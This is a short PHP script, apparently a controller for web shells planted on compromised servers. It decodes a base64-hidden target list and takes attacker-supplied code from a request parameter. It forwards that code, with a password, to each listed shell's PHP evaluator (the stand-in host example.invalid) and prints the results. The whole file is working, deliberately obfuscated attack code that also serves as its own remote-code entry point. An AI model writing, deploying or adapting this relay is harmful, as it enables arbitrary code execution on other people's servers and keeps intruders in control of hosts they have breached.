<?php
// nested: the target list is a base64 blob, the code to run is posted under a meaningless name and
// reaches the planted shells' PHP evaluator through a stream context
$_l = explode("\n", base64_decode('aHR0cDovL2V4YW1wbGUuaW52YWxpZC94LnBocHxrZXkK'));
foreach ($_l as $_r) { if (!$_r) continue; $_p = explode('|', $_r);
  $_q = http_build_query(['p1' => base64_decode($_REQUEST['z0']), 'a' => 'Php', 'pass' => $_p[1], 'charset' => 'UTF-8']);
  $_c = stream_context_create(['http' => ['method' => 'POST', 'content' => $_q]]);
  echo @file_get_contents($_p[0], false, $_c); }
